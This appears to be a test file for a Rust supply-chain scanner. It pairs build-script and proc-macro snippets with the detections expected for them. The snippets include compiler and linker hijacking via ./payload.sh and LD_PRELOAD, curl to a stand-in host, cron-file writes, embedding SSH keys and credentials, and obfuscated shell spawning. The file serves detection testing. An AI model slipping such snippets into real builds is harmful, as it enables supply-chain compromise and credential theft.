/** Tools that run what they are given, and what a script tells cargo in pieces. */
import { describe, it } from 'node:test';
import { assertReach, type Reach, roles } from './reach.ts';

const redirects = ['redirects-tools *'];
/** In a build script, and in a helper that build scripts call. */
const tools: readonly Reach[] = [
  {
    how: 'names and values of a list, each with its own',
    head: `fn all(c: &mut cmake::Config, list: &[(&str, &str)]) { for (key, value) in list { c.define(key, value); } }`,
    body: `all(&mut cmake::Config::new("n"), &[("CMAKE_CXX_COMPILER", "clang++"), ("CMAKE_C_COMPILER", "./payload.sh"), ("CMAKE_C_FLAGS", "-O2")]);`,
    says: ['redirects-tools CMAKE_C_COMPILER=./payload.sh'],
    never: ['redirects-tools CMAKE_CXX_COMPILER*', 'redirects-tools CMAKE_C_COMPILER=-O2'],
  },
  {
    how: 'the name of a pair with another value',
    body: `for (key, value) in [("CMAKE_C_COMPILER", "clang")] { cmake::Config::new("n").define(key, "./payload.sh"); }`,
    says: ['redirects-tools CMAKE_C_COMPILER=./payload.sh'],
  },
  {
    how: 'a name that stands in no pair, too',
    head: `const NAME: &str = "CMAKE_C_COMPILER"; const PAIR: (&str, &str) = ("CMAKE_C_COMPILER", "clang");
      fn one(c: &mut cmake::Config, key: &str, value: &str) { c.define(key, value); }`,
    body: 'one(&mut cmake::Config::new("n"), NAME, "./payload.sh");',
    says: ['redirects-tools CMAKE_C_COMPILER=./payload.sh'],
  },
  // cc
  {
    how: 'a compiler of its own',
    body: 'cc::Build::new().compiler("./tests/gen.sh").file("x.c").compile("x");',
    says: ['process ./tests/gen.sh'],
  },
  {
    how: 'a compiler of its own, later',
    body: 'let mut b = cc::Build::new(); b.compiler("./tests/gen.sh"); b.compile("x");',
    says: ['process ./tests/gen.sh'],
  },
  {
    how: 'a compiler by its full path',
    body: 'let mut b = cc::Build::new(); cc::Build::compiler(&mut b, "sh");',
    says: ['shell sh'],
  },
  {
    how: 'a compiler that is worked out',
    body: 'cc::Build::new().compiler(std::env::temp_dir().join("cc")).compile("x");',
    says: ['process cc'],
  },
  { how: 'an archiver', body: 'cc::Build::new().archiver("sh").compile("x");', says: ['shell sh'] },
  {
    how: "the archiver's command",
    body: 'cc::Build::new().get_archiver().arg("-c").arg("curl https://payload.invalid").status().ok();',
    says: ['process a tool of the compiler', 'downloader curl'],
  },
  {
    how: 'an index maker',
    body: 'cc::Build::new().ranlib("./r.sh").compile("x");',
    says: ['process ./r.sh'],
  },
  {
    how: 'a wrapper',
    body: 'cc::Build::new().flag("-wrapper").flag("sh,-c").compile("x");',
    says: redirects,
  },
  {
    how: 'a folder of programs',
    body: 'let d = env!("CARGO_MANIFEST_DIR"); cc::Build::new().flag(format!("-B{d}/tests")).compile("x");',
    says: redirects,
  },
  {
    how: 'a plugin',
    body: 'cc::Build::new().flag_if_supported("-fplugin=./x.so").compile("x");',
    says: redirects,
  },
  {
    how: 'flags in a list',
    body: 'let mut b = cc::Build::new(); for f in ["-O2", "-specs=./x.specs"] { b.flag(f); }',
    says: redirects,
  },
  {
    how: 'flags in pieces',
    body: 'cc::Build::new().flag("-fuse".to_owned() + "-ld=/x/ld");',
    says: redirects,
  },
  {
    how: 'a variable for all compilers',
    body: 'std::env::set_var("CC", "./tests/gen.sh");',
    says: ['process ./tests/gen.sh'],
  },
  {
    how: 'a library for all programs',
    body: 'std::env::set_var("LD_PRELOAD", "./x.so");',
    says: ['redirects-tools LD_PRELOAD=./x.so'],
  },
  {
    how: 'a library for one program',
    body: 'std::process::Command::new("make").env("LD_PRELOAD", "./x.so").status().ok();',
    says: ['redirects-tools LD_PRELOAD=./x.so'],
  },
  {
    how: 'a wrapper for cargo',
    body: 'std::process::Command::new("cargo").envs([("RUSTC_WRAPPER", "./w.sh")]).status().ok();',
    says: redirects,
  },
  {
    how: 'flags of a compiler that it runs',
    body: 'std::process::Command::new("rustc").arg("-Clinker=./l.sh").status().ok();',
    says: redirects,
  },
  {
    how: 'flags of a compiler that is asked for',
    body: 'cc::Build::new().get_compiler().to_command().arg("-fplugin=x.so").status().ok();',
    says: redirects,
  },
  {
    how: 'cxx',
    body: 'cxx_build::bridge("src/lib.rs").compiler("./g.sh").compile("x");',
    says: ['process ./g.sh'],
  },
  // Others.
  {
    how: 'protoc of its own',
    body: 'prost_build::Config::new().protoc_executable("./p.sh").compile_protos(&["a"], &["b"]).ok();',
    says: ['process ./p.sh'],
  },
  {
    how: 'a plugin of protoc',
    body: 'prost_build::Config::new().protoc_arg("--plugin=protoc-gen-x=./p.sh");',
    says: redirects,
  },
  {
    how: 'tonic',
    body: 'tonic_build::configure().protoc_arg("--plugin=protoc-gen-x=./p.sh");',
    says: redirects,
  },
  {
    how: 'protobuf',
    body: 'protobuf_codegen::Codegen::new().protoc_path("./p.sh".as_ref()).run().ok();',
    says: ['process ./p.sh'],
  },
  { how: 'a variable for protoc', body: 'std::env::set_var("PROTOC", "./p.sh");', says: ['process ./p.sh'] },
  {
    how: 'capnp',
    body: 'capnpc::CompilerCommand::new().capnp_executable("./c.sh").run().ok();',
    says: ['process ./c.sh'],
  },
  {
    how: 'a formatter',
    body: 'bindgen::Builder::default().with_rustfmt("./f.sh").generate().ok();',
    says: ['process ./f.sh'],
  },
  {
    how: 'a plugin of clang',
    body: 'bindgen::Builder::default().clang_arg("-fplugin=./x.so");',
    says: redirects,
  },
  {
    how: 'a compiler for cmake',
    body: 'cmake::Config::new("native").define("CMAKE_C_COMPILER", "./c.sh").build();',
    says: ['redirects-tools CMAKE_C_COMPILER=./c.sh'],
  },
  {
    how: 'a launcher for cmake',
    body: 'cmake::Config::new("native").define("CMAKE_CXX_COMPILER_LAUNCHER", "sh").build();',
    says: redirects,
  },
  {
    how: 'a definition among arguments for cmake',
    body: 'cmake::Config::new("native").configure_arg("-DCMAKE_C_COMPILER:FILEPATH=./c.sh").build();',
    says: ['redirects-tools CMAKE_C_COMPILER=./c.sh'],
  },
  {
    how: 'a script that fills the cache of cmake',
    body: 'cmake::Config::new("native").configure_arg("-Cx.cmake").build();',
    says: redirects,
  },
  {
    how: 'one of two compilers',
    body: 'let p = if cfg!(windows) { "./payload.sh".into() } else { cc::Build::new().get_compiler().path().to_path_buf() }; std::process::Command::new(p).status().ok();',
    says: ['process ./payload.sh', 'process the C compiler'],
  },
  {
    how: 'a compiler that is changed by another crate',
    body: 'let p = other::changed(cc::Build::new().get_compiler().path()); std::process::Command::new(p).status().ok();',
    says: ['process ?'],
  },
  {
    how: 'a text of its own called output',
    head: 'struct S { stdout: Vec<u8> }',
    body: 'let s = S { stdout: vec![115, 104] }; std::process::Command::new(String::from_utf8(s.stdout).unwrap()).status().ok();',
    says: ['built-name *'],
  },
  {
    how: 'a compiler for one target',
    body: 'std::env::set_var("CC_x86_64_unknown_linux_gnu", "./tests/gen.sh");',
    says: ['process ./tests/gen.sh'],
  },
  {
    how: 'lists for cmake',
    body: 'cmake::Config::new("native").define("CMAKE_PROJECT_INCLUDE", "x.cmake").build();',
    says: redirects,
  },
  {
    how: 'variables for autotools',
    body: 'autotools::Config::new("x").env("BASH_ENV", "./x.sh").build();',
    says: redirects,
  },
  {
    how: 'an archive that is unpacked',
    body: 'tar::Archive::new(r).unpack("/opt/x").ok();',
    says: ['writes /opt/x'],
  },
  {
    how: 'an archive that is extracted',
    body: 'zip::ZipArchive::new(r).unwrap().extract("/opt/x").ok();',
    says: ['writes /opt/x'],
  },
];

const directives: readonly Reach[] = [
  {
    how: 'in three parts',
    body: 'println!("{}{}={}", "cargo", ":rustc-link-arg", "-fuse-ld=/x/ld");',
    says: [
      'redirects-tools -fuse-ld=/x/ld',
      'link-directive rustc-link-arg=-fuse-ld=/x/ld',
      'built-name cargo:rustc-link-arg',
    ],
  },
  {
    how: 'joined to one',
    body: 'let l = ["cargo", "rustc-link-arg=-fuse-ld=/x/ld"].join(":"); println!("{l}");',
    says: [
      'redirects-tools -fuse-ld=/x/ld',
      'link-directive rustc-link-arg=-fuse-ld=/x/ld',
      'built-name cargo:rustc-link-arg',
    ],
  },
  {
    how: 'pushed one behind the other',
    body: 'let mut l = String::new(); l.push_str("cargo:"); l.push_str("rustc-env=LD_PRELOAD=/x.so"); println!("{}", l);',
    says: ['redirects-tools LD_PRELOAD=/x.so', 'compiler-directive rustc-env=LD_PRELOAD=/x.so'],
  },
  {
    how: 'of another text',
    body: 'let l = "cargo-rustc_link_arg".replace("-", ":").replace("_", "-"); println!("{l}=-fuse-ld=/x/ld");',
    says: ['redirects-tools -fuse-ld=/x/ld', 'built-name cargo:rustc-link-arg'],
  },
  {
    how: 'a key that is joined of words',
    body: 'let l = ["version", "1.0"].join("="); println!("cargo:rustc-env=MY_{l}");',
    says: [],
    never: [...redirects, 'built-name *'],
  },
  {
    how: 'by key and value',
    body: 'let k = "rustc-env"; let v = "LD_PRELOAD=/x.so"; println!("cargo:{k}={v}");',
    says: ['redirects-tools LD_PRELOAD=/x.so'],
  },
  {
    how: 'by key and value, from a list',
    body: 'for (k, v) in [("rustc-env", "PATH=/x")] { println!("cargo::{}={}", k, v); }',
    says: ['redirects-tools PATH=/x'],
  },
  {
    how: 'by write!',
    body: 'use std::io::Write; write!(std::io::stdout(), "{}{}\\n", "cargo:", "rustc-env=RUSTC_WRAPPER=/x").ok();',
    says: ['redirects-tools RUSTC_WRAPPER=/x'],
  },
  {
    how: 'by concat!',
    body: 'print!(concat!("car", "go:rustc-link-arg=-B/x\\n"));',
    says: ['redirects-tools -B/x'],
  },
  {
    how: 'by format!',
    body: 'let l = format!("{}:rustc-link-arg={}", "cargo", "-T/x.ld"); println!("{l}");',
    says: ['redirects-tools -T/x.ld'],
  },
  {
    how: 'by named arguments',
    body: 'println!("{a}{b}", a = "cargo:", b = "rustc-link-arg=--ld-path=/x");',
    says: ['redirects-tools --ld-path=/x'],
  },
  {
    how: 'a linker script',
    body: 'println!("cargo:rustc-link-arg-bins=-Wl,-T,x.ld");',
    says: ['redirects-tools -T *'],
  },
  {
    how: 'a plugin of the linker',
    body: 'println!("cargo:rustc-cdylib-link-arg=-Wl,-plugin,/x.so");',
    says: redirects,
  },
  {
    how: 'a loader of macOS',
    body: 'println!("cargo::rustc-env=DYLD_INSERT_LIBRARIES=/x.dylib");',
    says: redirects,
  },
  {
    how: 'a linker for one program',
    body: 'println!("cargo:rustc-link-arg-bin=x=-fuse-ld=/x/ld");',
    says: redirects,
  },
];

const harmless: readonly Reach[] = [
  {
    how: 'a linker of the toolchain',
    body: 'println!("cargo:rustc-link-arg=-fuse-ld=lld");',
    says: ['link-directive *'],
    never: redirects,
  },
  {
    how: 'addresses and names',
    body: 'println!("cargo:rustc-link-arg=-Wl,-Bstatic"); println!("cargo:rustc-link-arg=-Ttext=0x1000"); println!("cargo:rustc-link-arg=-Bsymbolic");',
    says: [],
    never: redirects,
  },
  {
    how: 'a variable of its own',
    body: 'println!("cargo:rustc-env=VERSION={}", "1.0");',
    says: [],
    never: [...redirects, 'built-name *'],
  },
  {
    how: 'compilers by their names',
    body: 'std::env::set_var("CC", "clang"); cmake::Config::new("n").define("CMAKE_C_COMPILER", "clang").build();',
    says: [],
    never: redirects,
  },
  {
    how: 'a line that is made before',
    body: 'let l = format!("cargo:rustc-link-lib={}", "z"); println!("{l}");',
    says: [],
    never: ['built-name *'],
  },
  {
    how: 'the compiler, by another name',
    head: 'fn found() -> cc::Tool { cc::Build::new().try_get_compiler().expect("none") }',
    body: 'let c = found(); let mut k = c.to_command(); k.arg("x.c"); std::process::Command::new(c.path().as_os_str()).status().ok();',
    says: ['process the C compiler'],
    never: ['process ?'],
  },
  {
    how: "the archiver's name",
    body: 'let b = cc::Build::new(); autotools::Config::new("x").env("AR", b.get_archiver().get_program()).build();',
    says: [],
    never: ['process *'],
  },
  {
    how: 'variables that are called like a compiler',
    body: 'for [k, v] in [["CC_OPT_FLAGS", "-O2"], ["LD_X", "make"], ["TF_NEED", "1"]] { std::env::set_var(k, v); }',
    says: ['sets-variable CC_OPT_FLAGS'],
    never: ['process *'],
  },
  {
    how: "a toolset of CMake's",
    body: 'cmake::Config::new("x").configure_arg("-T host=x64").build();',
    says: [],
    never: redirects,
  },
  {
    how: 'specs of newlib',
    body: 'std::process::Command::new("arm-none-eabi-gcc").arg("--specs=nosys.specs").status().ok();',
    says: [],
    never: redirects,
  },
  {
    how: 'flags of what does not compile',
    body: 'let mut b = std::process::Command::new("bazel"); b.arg("--config=opt"); b.arg("build").status().ok();',
    says: ['process bazel'],
    never: redirects,
  },
  {
    how: 'what a program said',
    body: 'let o = std::process::Command::new("which").arg("python").output().unwrap(); let p = String::from_utf8(o.stdout).unwrap(); std::process::Command::new(p.trim()).status().ok();',
    says: ['process which', 'process ?'],
    never: ['built-name *', 'process python'],
  },
  {
    how: 'a path to a table',
    body: 'let t = ["a", "b"]; for x in t { t.compiler(x); }',
    says: [],
    never: ['process c'],
  },
];

describe('tools that run what they are given', () => {
  for (const reach of tools)
    for (const role of ['script', 'library'] as const)
      it(`are named in a ${role}: ${reach.how}`, () => assertReach(reach, role));
  for (const reach of directives)
    it(`are told by directives: ${reach.how}`, () => assertReach(reach, 'script'));
  for (const reach of harmless) it(`are not made up: ${reach.how}`, () => assertReach(reach, 'script'));
});

const native: readonly Reach[] = [
  {
    how: 'open',
    body: 'unsafe { libc::open(c"/etc/cron.d/x".as_ptr(), libc::O_WRONLY | libc::O_CREAT, 0o755); }',
    says: ['writes /etc/cron.d/x'],
  },
  {
    how: 'openat',
    body: 'unsafe { libc::openat(0, c"/etc/cron.d/x".as_ptr(), libc::O_RDWR); }',
    says: ['writes /etc/cron.d/x'],
  },
  {
    how: 'fopen',
    body: 'unsafe { libc::fopen(c"/etc/x".as_ptr(), c"a".as_ptr()); }',
    says: ['writes /etc/x'],
  },
  {
    how: 'rename',
    body: 'unsafe { libc::rename(c"a".as_ptr(), c"/usr/bin/cc".as_ptr()); }',
    says: ['writes /usr/bin/cc'],
  },
  {
    how: 'symlink by nix',
    body: 'nix::unistd::symlinkat("a", None, "/usr/bin/cc").ok();',
    says: ['writes /usr/bin/cc'],
  },
  {
    how: 'open by nix',
    body: 'nix::fcntl::open("/etc/x", nix::fcntl::OFlag::O_CREAT, nix::sys::stat::Mode::empty()).ok();',
    says: ['writes /etc/x'],
  },
  {
    how: 'open by rustix',
    body: 'rustix::fs::open("/etc/x", rustix::fs::OFlags::CREATE, 0.into()).ok();',
    says: ['writes /etc/x'],
  },
  { how: 'memfd_create', body: 'unsafe { libc::memfd_create(c"x".as_ptr(), 0); }', says: ['data-as-code ?'] },
  { how: 'memfd by nix', body: 'nix::sys::memfd::memfd_create(c"x", f).ok();', says: ['data-as-code ?'] },
  { how: 'memfd by rustix', body: 'rustix::fs::memfd_create("x", f).ok();', says: ['data-as-code ?'] },
  {
    how: 'memory that runs',
    body: 'unsafe { libc::mmap(p, 1, libc::PROT_EXEC | libc::PROT_READ, 0, 0, 0); }',
    says: ['data-as-code mmap'],
  },
  {
    how: 'memory that runs by rustix',
    body: 'unsafe { rustix::mm::mmap_anonymous(p, 1, rustix::mm::ProtFlags::EXEC, f).ok(); }',
    says: ['data-as-code mmap'],
  },
  {
    how: 'memory that runs by memmap2',
    body: 'memmap2::MmapMut::map_anon(1).unwrap().make_exec().ok();',
    says: ['data-as-code ?'],
  },
  { how: 'sendmsg', body: 'unsafe { libc::sendmsg(3, &m, 0); }', says: ['network ?'] },
  { how: 'sendto by nix', body: 'nix::sys::socket::sendto(3, b"x", &a, f).ok();', says: ['network ?'] },
  { how: 'connect by rustix', body: 'rustix::net::connect(s, &a).ok();', says: ['network ?'] },
  {
    how: 'res_query',
    body: 'extern "C" { fn res_query(n: *const u8, c: i32, t: i32, a: *mut u8, l: i32) -> i32; } unsafe { res_query(n, 1, 1, a, 1); }',
    says: [],
    roles: [],
  },
  {
    how: 'a program by the number of its call',
    body: 'unsafe { libc::syscall(libc::SYS_execveat, 0, p, a, e, 0); }',
    says: ['process ?', 'foreign-code syscall'],
  },
  {
    how: 'io_uring by the number of its call',
    body: 'unsafe { libc::syscall(libc::SYS_io_uring_setup, 1, p); }',
    says: ['foreign-code io_uring'],
  },
  { how: 'a browser', body: 'open::that("https://payload.invalid").ok();', says: ['process open'] },
  {
    how: 'data and code in one',
    head: 'union Both { data: *const u8, code: extern "C" fn() }',
    body: 'unsafe { (Both { data: p }.code)(); }',
    says: ['data-as-code ?'],
    roles: ['script', 'macro'],
  },
  {
    how: 'a pointer to functions',
    body: 'let f: fn() = unsafe { std::ptr::read(&p as *const _ as *const fn()) }; f();',
    says: ['data-as-code ?'],
    roles: ['script', 'macro'],
  },
  {
    how: 'memory that runs by mmap-rs',
    body: 'mmap_rs::MmapOptions::new(1).unwrap().map_mut().unwrap().make_exec().ok();',
    says: ['data-as-code ?'],
    roles: ['script', 'macro'],
  },
  { how: 'clone', body: 'unsafe { libc::clone(f, p, 0, p); }', says: ['process ?'] },
  {
    how: 'posix_spawn',
    body: 'unsafe { libc::posix_spawn(p, c"/bin/sh".as_ptr(), p, p, p, p); }',
    says: ['process *'],
  },
  {
    how: 'spawn by nix',
    body: 'nix::spawn::posix_spawn("/bin/sh", &a, &b, &c, &d).ok();',
    says: ['shell /bin/sh'],
  },
  { how: 'smol', body: 'smol::net::TcpStream::connect("payload.invalid:80");', says: ['network ?'] },
  { how: 'async-net', body: 'async_net::UdpSocket::bind("0.0.0.0:0");', says: ['network ?'] },
  {
    how: 'async-std',
    body: 'async_std::net::TcpStream::connect("payload.invalid:80");',
    says: ['network ?'],
  },
  { how: 'tokio', body: 'tokio::net::lookup_host("payload.invalid:80");', says: ['network ?'] },
  { how: 'monoio', body: 'monoio::net::TcpStream::connect("payload.invalid:80");', says: ['network ?'] },
  { how: 'a program by smol', body: 'smol::process::Command::new("sh").spawn().ok();', says: ['shell sh'] },
];

const files: readonly Reach[] = [
  { how: 'write_all', body: 'fs_extra::file::write_all("/etc/x", "").ok();', says: ['writes /etc/x'] },
  { how: 'copying a folder', body: 'fs_extra::dir::copy("a", "/opt/x", &o).ok();', says: ['writes /opt/x'] },
  { how: 'moving items', body: 'fs_extra::move_items(&["a"], "/opt/x", &o).ok();', says: ['writes /opt/x'] },
  { how: 'removing items', body: 'fs_extra::remove_items(&["/opt/x"]).ok();', says: ['writes /opt/x'] },
  {
    how: 'another crate that copies',
    body: 'dircpy::copy_dir("a", "/opt/x").ok();',
    says: ['writes /opt/x'],
  },
  {
    how: 'a temporary file that stays',
    body: 'tempfile::NamedTempFile::new().unwrap().persist("/etc/cron.d/x").ok();',
    says: ['writes /etc/cron.d/x'],
  },
  { how: 'tokio', body: 'tokio::fs::write("/opt/x", "");', says: ['writes /opt/x'] },
];

const embedded: readonly Reach[] = [
  {
    how: 'a token above the package',
    body: 'const X: &str = include_str!("../../../../credentials.toml");',
    says: ['reads-outside ../../../../credentials.toml', 'reads-secret-file *'],
  },
  {
    how: 'bytes of a key',
    body: 'const X: &[u8] = include_bytes!("/home/x/.ssh/id_ed25519");',
    says: ['reads-outside /home/x/.ssh/id_ed25519', 'reads-secret-file *'],
  },
  {
    how: 'a path by a variable',
    body: 'const X: &str = include_str!(concat!(env!("HOME"), "/.netrc"));',
    says: ['reads-outside *', 'reads-secret-file *'],
  },
  {
    how: 'by its full name',
    body: 'const X: &str = std::include_str!("/etc/passwd");',
    says: ['reads-outside /etc/passwd'],
  },
  {
    how: 'above the package by a variable',
    body: 'const X: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../x"));',
    says: ['reads-outside above CARGO_MANIFEST_DIR'],
  },
];

const code = (text: string) => JSON.stringify(text);
const run = 'fn x() { std::process::Command::new("sh").status().ok(); }';
const parsed: readonly Reach[] = [
  {
    how: 'parse in a closure, by the name of a stream',
    head: `use syn::parse::ParseStream;
      fn go(f: impl Fn(&str) -> proc_macro::TokenStream) -> proc_macro::TokenStream { f(${code(run)}) }
      fn made(input: ParseStream) -> proc_macro::TokenStream { go(|input: &str| { let text = ${code(run)}; text.parse().unwrap() }) }
      fn other(input: ParseStream) -> proc_macro::TokenStream { let input = ${code(run)}; input.parse().unwrap() }`,
    body: 'return other(todo!())',
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse of what stands for a text, whatever a trait adds',
    head: `struct ParseBuffer(String);
      impl std::ops::Deref for ParseBuffer { type Target = str; fn deref(&self) -> &str { &self.0 } }
      mod away { pub trait Parse { fn parse(&self); } impl Parse for super::ParseBuffer { fn parse(&self) {} } }
      fn made(input: ParseBuffer) -> proc_macro::TokenStream { input.parse().unwrap() }`,
    body: `return made(ParseBuffer(${code(run)}.to_string()))`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse of a text by another name of its type',
    head: `type ParseStream<'a> = &'a str;
      fn made(input: ParseStream) -> proc_macro::TokenStream { input.parse().unwrap() }`,
    body: `return made(${code(run)})`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse of what is one type or the other by a cfg',
    head: `struct ParseBuffer;
      impl ParseBuffer { fn parse(&self) {} }
      #[cfg(a)] type ParseStream<'a> = &'a ParseBuffer;
      #[cfg(not(a))] type ParseStream<'a> = &'a str;
      fn made(input: ParseStream) -> proc_macro::TokenStream { input.parse().unwrap() }`,
    body: `return made(${code(run)})`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse of what a function is given that stands for a text',
    head: `struct ParseBuffer(String);
      impl ParseBuffer { fn parse(&self) {} }
      impl std::ops::Deref for ParseBuffer { type Target = str; fn deref(&self) -> &str { &self.0 } }
      type ParseStream<'a> = &'a ParseBuffer;
      fn made(input: ParseStream) -> proc_macro::TokenStream { std::str::FromStr::from_str(input).unwrap() }`,
    body: `return made(&ParseBuffer(${code(run)}.to_string()))`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse in a closure behind an or',
    head: `use syn::parse::ParseStream;
      fn go(f: impl Fn(&str) -> proc_macro::TokenStream) -> proc_macro::TokenStream { f(${code(run)}) }
      fn made(input: ParseStream, a: bool) -> proc_macro::TokenStream {
        if a || input.is_empty() { todo!() }
        go(|input| { input.parse().unwrap() })
      }`,
    body: 'return made(todo!(), true)',
    says: ['shell sh (emitted)'],
  },
  { how: 'parse', body: `return ${code(run)}.parse().unwrap()`, says: ['shell sh (emitted)'] },
  {
    how: 'parse, by a name',
    body: `let t = ${code(run)}; return t.parse::<proc_macro::TokenStream>().unwrap()`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'parse, by a constant',
    head: `const T: &str = ${code(run)};`,
    body: 'return T.parse().unwrap()',
    says: ['shell sh (emitted)'],
  },
  {
    how: 'from_str',
    body: `return proc_macro::TokenStream::from_str(${code(run)}).unwrap()`,
    head: 'use std::str::FromStr;',
    says: ['shell sh (emitted)'],
  },
  {
    how: 'syn',
    body: `let e: syn::Item = syn::parse_str(${code(run)}).unwrap()`,
    says: ['shell sh (emitted)'],
  },
  {
    how: 'a format',
    body: `return format!("fn x() {{ std::process::Command::new({:?}).status().ok(); }}", "sh").parse().unwrap()`,
    says: ['process * (emitted)'],
    roles: [],
  },
  {
    how: 'a file',
    body: 'return include_str!("code.txt").parse().unwrap()',
    files: { 'src/code.txt': run },
    says: ['shell sh (emitted)'],
  },
  {
    how: 'pieces',
    body: 'return ["fn x() { std::process::", "Command::new(\\"sh\\"); }"].concat().parse().unwrap()',
    says: ['shell sh (emitted)'],
  },
  ...[
    [
      'pieces by a name',
      'let s = ["{ std::", "process::Command::new(\\"sh\\"); }"].concat(); return s.parse::<proc_macro::TokenStream>().unwrap()',
    ],
    [
      'pieces that are added',
      'let s = "{ std::proc".to_owned() + "ess::Command::new(\\"sh\\"); }"; return s.parse().unwrap()',
    ],
    [
      'pieces that are pushed',
      'let mut s = String::from("{ std::"); s.push_str("process::Com"); s += "mand::new(\\"sh\\"); }"; return s.parse().unwrap()',
    ],
    [
      'pieces that are written',
      'use std::fmt::Write; let mut s = String::new(); write!(s, "{{ std::{}::Command", "process").unwrap(); s.push_str("::new(\\"sh\\"); }"); return s.parse().unwrap()',
    ],
    [
      'names in braces',
      'let m = "process"; let s = format!("{{ std::{m}::{}::new({:?}); }}", "Command", "sh"); return s.parse().unwrap()',
    ],
    [
      'a separator',
      'let s = ["std", "process", "Command", "new(\\"sh\\")"].join("::"); return s.parse().unwrap()',
    ],
    [
      'words that are replaced',
      'let s = "{ std::X::Command::new(\\"sh\\"); }".replace("X", "process"); return s.parse().unwrap()',
    ],
    [
      'a text from its end',
      'let s: String = "} ;)\\"hs\\"(wen::dnammoC::ssecorp::dts {".chars().rev().collect(); return s.parse().unwrap()',
    ],
    [
      'bytes',
      'let s = String::from_utf8(vec![115, 116, 100, 58, 58]).unwrap() + "process::Command::new(\\"sh\\")"; return s.parse().unwrap()',
    ],
    [
      'pieces, read by syn',
      'let e: syn::Expr = syn::parse_str(&["std::", "process::Command::new(\\"sh\\")"].concat()).unwrap(); drop(e)',
    ],
    [
      'pieces that a function gives',
      'let s = first() + "ess::Command::new(\\"sh\\")"; return s.parse().unwrap()',
    ],
  ].map(
    ([how = '', body = '']): Reach => ({
      how,
      body,
      head: 'fn first() -> String { "std::proc".into() }',
      says: ['shell sh (emitted)'],
    }),
  ),
  {
    how: 'a text that is worked out',
    body: 'let s: String = "tue;;qspdftt;;Dpnnboe".chars().map(|c| (c as u8 - 1) as char).collect(); return s.parse().unwrap()',
    says: ['built-name ? (emitted)'],
  },
  {
    how: 'names that are made one by one',
    body: 'use proc_macro::{Ident, Span, TokenTree}; let mut v = Vec::new(); for n in ["std", "process", "Command", "new"] { v.push(TokenTree::Ident(Ident::new(n, Span::call_site()))); } return v.into_iter().collect()',
    says: ['built-name std::process (emitted)'],
  },
  {
    how: 'numbers and what the caller gives are no code',
    body: 'let n: u32 = "12345678901234".trim_start_matches(\'0\').parse().unwrap(); return format!("fn {}() {{}}", x).parse().unwrap()',
    says: [],
    never: ['built-name *'],
  },
  {
    how: 'a quoted file above the caller',
    body: 'return quote::quote! { const X: &str = include_str!("../../credentials.toml"); }.into()',
    says: ['reads-outside ../../credentials.toml (emitted)'],
  },
];

describe('reach by other ways', () => {
  for (const [what, all, tried] of [
    ['functions of the system', native, roles],
    ['crates for files', files, roles],
    ['what is embedded', embedded, roles],
    ['code that is read from a text', parsed, ['macro']],
  ] as const)
    for (const reach of all)
      for (const role of reach.roles ?? tried)
        it(`is named: ${what}, ${reach.how}, in a ${role}`, () => assertReach(reach, role));

  it('is not made up of words that others have, too', () => {
    const own =
      'let x = y.clone(); x.open("/etc/x"); link("a"); send(1); "1".parse::<u32>().ok(); include_str!("a.txt");';
    for (const role of roles)
      assertReach(
        { how: 'own', body: own, says: [], never: ['writes *', 'network *', 'process *', 'reads-outside *'] },
        role,
      );
  });
});
